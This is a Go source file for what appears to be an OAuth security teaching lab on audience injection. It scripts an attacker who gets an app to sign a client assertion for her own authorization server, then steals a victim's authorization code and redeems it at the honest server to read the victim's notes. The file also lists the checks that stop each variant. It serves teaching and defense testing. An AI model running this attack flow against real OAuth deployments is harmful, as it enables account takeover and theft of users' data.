// Package audienceinjection is lab 16: a client signs an assertion for the attacker's authorization server,
// which is valid at the honest one.
//
//	lab.go     the attack
//	evil.go    the authorization server of the attacker
//	README.md  the text for learners
package audienceinjection

import (
	_ "embed"
	"errors"
	"net/url"
	"time"

	"quartet.example/demo/labs/lab"
	"quartet.example/shared/oauth"
)

//go:embed README.md
var readme string

// Lab is the lab.
var Lab = lab.Lab{
	ID: "16", Slug: "audience-injection", Title: "Audience injection", Minutes: 20, README: readme,
	Specs:    []string{"RFC 7523 §3", "RFC 9126 §2", "draft-ietf-oauth-rfc7523bis §4"},
	Careless: lab.Everything, Servers: lab.TwoServers, Signs: true,
	Attacks: []lab.Attack{
		{
			Slug: "endpoint", Title: "names the honest server's token endpoint as her own",
			Run:   func(s *lab.Scene) error { return inject(s, s.Issuer+"/token") },
			Stops: []string{"as.assertion.audience", "client.discovery.endpoints"}, Around: []string{"as.pkce.verifier"},
		},
		{
			Slug: "issuer", Title: "names the honest server's issuer as her token endpoint",
			Run:   func(s *lab.Scene) error { return inject(s, s.Issuer) },
			Stops: []string{"client.discovery.endpoints"}, Around: []string{"as.pkce.verifier", "as.assertion.audience"},
		},
	},
}

// inject makes the app sign an assertion whose audience is what the attacker claims as her token endpoint, and
// is then the app at the honest server.
func inject(s *lab.Scene, claimed string) error {
	s.Step("Mallory", "runs an authorization server, at which the app has the same client_id as at the honest one")
	assertion, err := obtain(s, claimed)
	if err != nil {
		return err
	}
	code, verifier, err := steal(s)
	if err != nil {
		return err
	}
	s.Step("Mallory", "redeems the code at the honest server, with her verifier and the assertion of the app")
	tokens, err := s.Token(s.Program, s.Web, url.Values{
		"grant_type": {"authorization_code"}, "code": {code}, "redirect_uri": {s.Web.RedirectURI}, "code_verifier": {verifier},
		"client_assertion_type": {oauth.ClientAssertionType}, "client_assertion": {assertion},
	})
	if err != nil {
		return err
	}
	s.Step("Mallory", "reads Alice's notes with the access token")
	_, err = s.ReadNotes(tokens.AccessToken)
	return err
}

var errNoAssertion = errors.New("the app sent no assertion to the server of the attacker")

// obtain returns an assertion that the app has made for the attacker's server. If the app does not trust the
// metadata, she publishes metadata without a fault, to get at least some assertion.
func obtain(s *lab.Scene, claimed string) (string, error) {
	s.Step("Mallory", "publishes "+claimed+" as her token endpoint, and an endpoint of her own for pushed authorization requests")
	if assertion, err := push(s, claimed); err != nil || assertion != "" {
		return assertion, err
	}
	s.Step("Mallory", "gets no assertion, because the app does not trust her metadata, so she publishes endpoints of her own only")
	assertion, err := push(s, s.Evil.URL+"/token")
	if err == nil && assertion == "" {
		err = errNoAssertion
	}
	return assertion, err
}

// push begins a sign-in at the app with the attacker's server, and returns the assertion that arrives there.
func push(s *lab.Scene, tokenEndpoint string) (string, error) {
	s.Evil.Serve(evil{s.Evil.URL, tokenEndpoint})
	s.Pass(time.Minute) // the reference does not ask for metadata again at once
	s.Step("Mallory", "begins to sign in at the app with her server")
	err := s.Attacker.Open(s.Client + "/login?" + url.Values{"issuer": {s.Evil.URL}}.Encode())
	assertion := s.Evil.Received("client_assertion")
	if assertion != "" {
		s.Step("Mallory", "receives the request that the app pushes to her server, with an assertion")
	}
	return assertion, err
}

// steal returns a code of the victim that was issued for a challenge of the attacker, and its verifier.
func steal(s *lab.Scene) (code, verifier string, err error) {
	s.Step("Mallory", "writes an authorization request of the app to the honest server, with her own code_challenge, and sends Alice the link")
	request := s.Begin(s.Web, nil)
	s.Step("Alice", "follows the link and signs in at the honest server, while the app is restarted, so nobody redeems her code")
	back, err := s.Victim.SignInUntil(request.URL, s.Web.RedirectURI)
	if err != nil {
		return "", "", err
	}
	s.Step("Mallory", "reads the code in the log of the proxy in front of the app")
	return back.Query().Get("code"), request.Verifier, nil
}
